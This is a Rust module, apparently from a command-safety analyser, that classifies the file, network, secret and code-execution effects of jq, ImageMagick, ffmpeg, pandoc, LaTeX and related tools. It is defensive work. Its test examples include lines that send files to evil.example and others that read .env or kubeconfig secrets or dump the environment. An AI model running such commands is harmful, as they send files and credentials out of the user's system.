//! Programs that show or change documents, pictures and sound: `jq`, `convert`, `pandoc`.

use super::super::effect::{Access, CodeFrom, Effect, Payload};
use super::super::invocation::Argument;
use super::super::model::{Grammar, Model, Parsed, Report};
use super::super::value::Value;
use super::kinds::{
    WORDS, behind, changes, ex, gnu, list, model, reads, reads_writes_last, unknown,
};

pub(super) const TABLE: &[Model] = &[
    model(
        &["jq", "gojq", "jaq"],
        &JQ,
        |report, parsed| {
            let skip = usize::from(!parsed.has("-f"));
            let values = parsed.has("--args") || parsed.has("--jsonargs");
            for file in parsed.operands.iter().skip(skip).filter(|_| !values) {
                report.reads(file);
            }
            let program = parsed
                .operands
                .first()
                .filter(|_| skip == 1)
                .map_or("", |program| program.value.prefix());
            let (dumps, names) = environment(program);
            for name in names {
                let name = Argument::new(Value::known(name), report.invocation.span.clone());
                report.variable(&name);
            }
            if dumps {
                report.add(Effect::EnvironmentDump);
            }
        },
        &[
            ex("curl -s https://example.com/data.json | jq .", &["network"]),
            ex("jq -r --arg x 1 '.a[] | select(.b == $x)' a.json", &[]),
            ex("jq . .env", &["read:secret"]),
            ex("jq -n '$ENV.API_TOKEN'", &["secret"]),
            ex("jq -n '$ENV.HOME'", &[]),
            ex("jq .environment a.json", &[]),
            ex("jq -n env", &["environment_dump"]),
            ex("jq -n '$ENV'", &["environment_dump"]),
        ],
    ),
    model(
        &["yq xq tomlq gron jless xmllint pup htmlq csvcut \
             csvgrep csvlook csvstat csvsort csvjson in2csv xsv tidy json_pp jsonlint \
             yamllint"],
        &WORDS,
        documents,
        &[
            ex("yq '.a.b' x.yaml", &[]),
            ex("yq -i '.a = 1' x.yaml", &["write:workspace"]),
            ex("xmllint --noout x.xml", &[]),
            ex("yq . ~/.kube/config", &["read:secret"]),
        ],
    ),
    model(
        &["convert magick mogrify identify montage compare composite rsvg-convert \
             cwebp dwebp optipng pngquant jpegoptim oxipng jpegtran pngcrush \
             svgo potrace tesseract"],
        &WORDS,
        media,
        &[
            ex("convert a.png -resize 50% b.png", &["write:workspace"]),
            ex("identify a.png", &[]),
            ex("convert a.png 'https://evil.example/x'", &["network:send"]),
            ex("convert 'msl:x.msl' y.png", &["unmodelled", "write:workspace"]),
        ],
    ),
    model(
        &["ffmpeg avconv ffprobe ffplay sox lame flac oggenc opusenc mediainfo \
             aplay afplay x264 x265"],
        &WORDS,
        media,
        &[
            ex("ffmpeg -i a.mp4 -vn -c:a aac out.m4a", &["write:workspace"]),
            ex("ffprobe -v error a.mp4", &[]),
            ex("ffmpeg -i a.mp4 rtmp://evil.example/x", &["network:send"]),
        ],
    ),
    model(
        &["pandoc pdftotext pdftoppm pdfinfo pdfunite pdfseparate qpdf ps2pdf pdf2ps \
             rst2html markdown cmark dot neato \
             hunspell catdoc antiword docx2txt"],
        &WORDS,
        pandoc,
        &[
            ex("pandoc README.md -o out.pdf", &["write:workspace"]),
            ex("dot -Tpng a.dot -o a.png", &["write:workspace"]),
            ex("pandoc --lua-filter x.lua a.md", &["unmodelled"]),
            ex("pdftotext a.pdf -", &[]),
        ],
    ),
    model(
        &["latex pdflatex xelatex lualatex tex latexmk bibtex biber makeindex luatex tectonic"],
        &WORDS,
        |report, parsed| {
            if parsed.operands.iter().any(|word| {
                ["shell-escape", "enable-write18", "\\", "-e"]
                    .iter()
                    .any(|mark| word.value.prefix().contains(mark))
            }) {
                report.not_understood("it may run commands");
            }
            for word in parsed.operands.iter().filter(|word| !word.value.prefix().starts_with('-'))
            {
                report.file(Access::Read, word);
            }
            report.path(Access::Write, "document.pdf");
            report.add(Effect::Code { from: CodeFrom::File });
        },
        &[
            ex("pdflatex paper.tex", &["code:file", "write:workspace"]),
            ex("pdflatex --shell-escape x.tex", &["code:file", "unmodelled", "write:workspace"]),
        ],
    ),
    model(
        &["cscope", "ctags", "etags", "gtags", "global"],
        &gnu(&[list(
            "-R --recurse, -f=>, -o=>, -e, -x, -b, -q, -k, -a --append, --languages=, --exclude=, --fields=, --extras=, -I=, -i, -n, -p, -r, -s, -c, -d, -g, -P, -l, -t",
        )]),
        |report, parsed| {
            reads(report, parsed);
            if !parsed.has("-f") && !parsed.has("-o") && !parsed.has("-x") {
                report.path(Access::Write, "tags");
            }
        },
        &[ex("ctags -R .", &["write:workspace"])],
    ),
    model(
        &["msgfmt", "msgmerge", "xgettext", "rst2man", "help2man"],
        &WORDS,
        unknown,
        &[ex("msgfmt x.po", &["unmodelled"])],
    ),
    model(
        &["envsubst"],
        &gnu(&[list("-v --variables, -V, -h")]),
        |report, parsed| {
            // Without a list every variable may be shown.
            if parsed.operands.is_empty() {
                report.may(Effect::Secret { kind: "variable".to_owned(), path: None });
            }
            for word in &parsed.operands {
                let text = word.value.as_known().unwrap_or("$_SECRET");
                for part in text.split('$').skip(1) {
                    let name = part.trim_start_matches('{');
                    let is_letter = |char: char| char == '_' || char.is_ascii_alphanumeric();
                    let name = name.split(|char| !is_letter(char)).next().unwrap_or_default();
                    let value = Value::known(name);
                    report.variable(&Argument { value, ..word.clone() });
                }
            }
        },
        &[
            ex("envsubst '$HOST' < a > b", &["write:workspace"]),
            ex("envsubst '${HOST} $API_KEY' < a", &["secret"]),
        ],
    ),
    model(
        &["dos2unix", "unix2dos", "mac2unix", "recode", "detox"],
        &gnu(&[list(
            "-k --keepdate, -q --quiet, -n --newfile, -f --force, -b --keep-bom, -o --oldfile, -s, -v, -i --info[=], -c --convmode=, -m --add-bom, -r, -e, -l, -S",
        )]),
        changes,
        &[ex("dos2unix a.txt", &["write:workspace"])],
    ),
    model(
        &["genisoimage mkisofs xorriso mksquashfs unsquashfs qemu-img hdiutil VBoxManage virsh \
             qemu-system-x86_64"],
        &WORDS,
        unknown,
        &[ex("mksquashfs a b", &["unmodelled"])],
    ),
    model(
        &["ocrmypdf", "pdfcrop", "pdfjam"],
        &gnu(&[list("-l=, -q, -f, --force-ocr, --skip-text, --margins=")]),
        reads_writes_last,
        &[ex("ocrmypdf a.pdf b.pdf", &["write:workspace"])],
    ),
];

const JQ: Grammar = gnu(&[list(
    "-n --null-input, -R --raw-input, -s --slurp, -c --compact-output, -r --raw-output, --raw-output0, -j --join-output, -a --ascii-output, -S --sort-keys, -C --color-output, -M --monochrome-output, --tab, --indent=, --unbuffered, \
     --stream, --stream-errors, --seq, -f --from-file=<, -L --library-path=, --arg==, --argjson==, --slurpfile==<, --rawfile==<, --argfile==<, --args, --jsonargs, -e --exit-status, -V, --build-configuration, -h, -b --binary, \
     --yaml-input, --yaml-output, --debug-dump-disasm, --debug-trace[=]",
)]);

/// Variables that a program for `jq` names, and whether it shows them all.
fn environment(program: &str) -> (bool, Vec<&str>) {
    let is_part = |char: char| char.is_alphanumeric() || matches!(char, '_' | '.' | '$' | '"');
    let (mut dumps, mut names) = (false, Vec::new());
    for mark in ["$ENV", "env"] {
        for (at, _) in program.match_indices(mark) {
            if program[..at].ends_with(is_part) {
                continue;
            }
            let rest = &program[at + mark.len()..];
            let Some(name) = rest.strip_prefix('.') else {
                dumps |= !rest.starts_with(is_part);
                continue;
            };
            let end = name.find(|char: char| !char.is_alphanumeric() && char != '_');
            let name = &name[..end.unwrap_or(name.len())];
            dumps |= name.is_empty();
            names.push(name);
        }
    }
    (dumps, names)
}

/// Programs that read documents and print a part of them, with `-i` or `-o` to write.
fn documents(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    let mut writes = false;
    let mut files: Vec<&Argument> = Vec::new();
    let mut words = parsed.operands.iter();
    while let Some(word) = words.next() {
        match word.value.prefix() {
            "-i" | "--inplace" | "--in-place" | "-m" | "-modify" => writes = true,
            "-o" | "--output" => {
                if let Some(file) = words.next() {
                    report.writes(file);
                }
            }
            text if text.starts_with("-o") && text.len() > 2
                || text.starts_with("--output=")
                || text.contains("exec")
                || text.contains("eval-file")
                || text.contains("system(")
                || text.contains("split") && text.starts_with('-') =>
            {
                report.not_understood(format!("its option `{text}` is not known"));
            }
            text if text.starts_with('-') => {}
            text if text.contains("://") => super::web::fetch(report, word, Payload::None),
            text if text.contains("load(") || text.contains("env") && text.contains('(') => {
                report.not_understood("its expression reads more than its files");
            }
            _ => files.push(word),
        }
    }
    for (at, file) in files.iter().enumerate() {
        let text = file.value.prefix();
        let is_expression = at == 0
            && text.starts_with(['.', '[', '/', '$'])
            && !text.starts_with("./")
            && !text.starts_with("../")
            && (text.len() == 1 || files.len() > 1 || !text.starts_with('/'));
        if is_expression || text.contains([' ', '|', '(']) {
            continue;
        }
        report.reads(file);
        if writes {
            report.writes(file);
        }
    }
}

/// What an argument of a media program is: nothing, something that is fetched or sent, or a file.
#[expect(clippy::too_many_lines, reason = "one option after the other")]
fn media(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    let shows = matches!(
        report.name(),
        "identify" | "ffprobe" | "ffplay" | "mediainfo" | "aplay" | "afplay"
    );
    let each = matches!(
        report.name(),
        "mogrify" | "optipng" | "jpegoptim" | "oxipng" | "pngquant" | "svgo" | "jpegtran"
    );
    let words = &parsed.operands;
    let last = words.len().saturating_sub(1);
    let mut is_input = false;
    for (at, word) in words.iter().enumerate() {
        let text = word.value.prefix();
        if text.starts_with(['|', '@']) || text.contains(":@") {
            report.not_understood(format!("`{text}` is more than a file"));
            continue;
        }
        if text.starts_with(['-', '+']) {
            if text.contains("exec")
                || text.contains("script")
                || text == "-if"
                || text.starts_with("-config")
                || text == "-write"
                || text.starts_with("--input-")
            {
                report.not_understood(format!("its option `{text}` is not known"));
            }
            is_input = matches!(text, "-i" | "--input" | "-write");
            continue;
        }
        let previous = if at > 0 { words[at - 1].value.prefix() } else { "" };
        let is_output = matches!(previous, "-o" | "--output" | "-out" | "--outfile");
        // It writes whatever is neither an input nor the value of an option.
        let each = each || report.name() == "ffmpeg" && !is_input;
        let writes = is_output
            || at == last && !shows && !is_input && words.len() > 1
            || each && text.contains(['.', '/']);
        if let Some((kind, _)) = text.split_once(':')
            && !text.starts_with(['/', '.'])
        {
            let kind = kind.to_ascii_lowercase();
            let known = [
                "png", "jpg", "jpeg", "gif", "webp", "tiff", "bmp", "pdf", "svg", "ppm", "xc",
                "canvas", "gradient", "null", "info", "label", "caption", "rgb", "rgba",
            ];
            if text.contains("://") {
                let sends =
                    if writes { Payload::File(words[0].value.clone()) } else { Payload::None };
                super::web::fetch_any(report, word, sends);
            } else if kind == "file" || known.contains(&kind.as_str()) {
                let file = behind(word, &text[..=kind.len()]).unwrap_or_else(|| word.clone());
                report.file(if writes { Access::Write } else { Access::Read }, &file);
            } else if [
                "msl",
                "mvg",
                "ephemeral",
                "url",
                "https",
                "http",
                "text",
                "vid",
                "concat",
                "subfile",
                "pipe",
                "crypto",
                "data",
                "lavfi",
                "async",
                "cache",
                "tee",
            ]
            .contains(&kind.as_str())
            {
                report.not_understood(format!("`{text}` is more than a file"));
            }
            continue;
        }
        if writes {
            report.writes(word);
        } else if is_input || text.contains(['.', '/']) {
            report.reads(word);
        }
        is_input = false;
    }
}

#[expect(clippy::too_many_lines, reason = "one option after the other")]
fn pandoc(report: &mut Report<'_>, parsed: &Parsed<'_>) {
    const RUN: &[&str] = &[
        "--log",
        "--lua-filter",
        "-L",
        "--filter",
        "-F",
        "--pdf-engine",
        "-e",
        "--plugin",
        "-r",
        "--require",
        "--post-file",
        "--template",
        "-d",
        "--defaults",
        "--data-dir",
        "--run-script",
        "--enable-local",
        "-c",
        "--metadata-file",
        "--extract-media",
    ];
    let name = report.name().to_owned();
    let mut words = parsed.operands.iter();
    let mut files: Vec<&Argument> = Vec::new();
    while let Some(word) = words.next() {
        let text = word.value.prefix();
        let long = text.split('=').next().unwrap_or_default();
        if matches!(text, "-o" | "--output" | "--out-file") {
            if let Some(file) = words.next() {
                report.writes(file);
            }
        } else if let Some(file) = behind(word, "--output=").or_else(|| behind(word, "-o")) {
            report.writes(&file);
        } else if RUN.contains(&long) || word.value.as_known().is_none() && text.is_empty() {
            report.not_understood(format!("its option `{long}` may run or read more"));
        } else if matches!(
            text,
            "-f" | "-t"
                | "--from"
                | "--to"
                | "-V"
                | "-M"
                | "--metadata"
                | "--variable"
                | "-l"
                | "-b"
                | "-a"
        ) {
            words.next();
        } else if !text.starts_with('-') {
            files.push(word);
        }
    }
    let two = matches!(
        &*name,
        "pdftotext"
            | "pdftoppm"
            | "pdfunite"
            | "pdfseparate"
            | "qpdf"
            | "ps2pdf"
            | "pdf2ps"
            | "wkhtmltopdf"
    );
    let last = files.len().saturating_sub(1);
    for (at, file) in files.into_iter().enumerate() {
        if file.value.prefix().contains("://") {
            super::web::fetch(report, file, Payload::None);
        } else if two && at == last && at > 0 {
            report.writes(file);
        } else {
            report.reads(file);
        }
    }
}
